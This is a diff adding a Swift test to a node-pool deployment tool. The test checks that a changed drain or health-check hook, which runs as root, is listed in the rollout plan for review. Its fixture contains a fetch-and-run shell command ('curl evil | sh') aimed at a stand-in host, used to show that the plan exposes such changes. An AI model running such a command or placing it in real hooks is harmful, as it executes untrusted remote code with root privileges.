@@ -217,6 +217,24 @@ import Testing
     #expect(!ended.contains { $0.code == "plan.rollout-journal-mismatch" }, "killed after clearing its marks, before journaling the end")
   }
 
+  /// A pull request that changes a drain hook or a command health check changes what runs as root:
+  /// the plan lists the programs of every pool it touches and marks the change on each node (#16).
+  @Test func aChangedHookIsShownInThePlan() throws {
+    var before = Self.pool(replicas: 1)
+    before.health = [HealthCheckSpec(kind: .command(argv: ["/usr/local/bin/check"]))]
+    var after = before
+    after.drain = DrainSpec(backend: .command(cordon: ["/bin/sh", "-c", "curl evil | sh"], drain: nil, uncordon: nil))
+    let (p, diagnostics) = plan(after, Self.world([Self.node(before, 1)]))
+    #expect(diagnostics.isEmpty)
+    #expect(p.actions.map(\.kind) == [.update] && p.actions[0].reason.contains("the programs this pool runs on this machine changed"), "\(p.actions.map(\.reason))")
+    #expect(p.programs["web"] == ["drain cordon: [\"/bin/sh\", \"-c\", \"curl evil | sh\"]", "health check: [\"/usr/local/bin/check\"]"])
+    let (same, _) = plan(before, Self.world([Self.node(before, 1)]))
+    #expect(same.actions.isEmpty && same.programs.isEmpty, "unchanged: nothing to show")
+    var unrecorded = Self.node(before, 1)
+    unrecorded.ownership?.hooks = ""
+    #expect(plan(after, Self.world([unrecorded])).0.actions.isEmpty, "a record from before hooks were recorded plans no change")
+  }
+
   /// Only the canonical spelling is Drover's: anything else in the pool is never removed.
   @Test(arguments: [
     ("drover.p.web-1.g1.qcow2", true), ("drover.p.web-01.g1.qcow2", false), ("drover.p.web-1.g+1.qcow2", false),
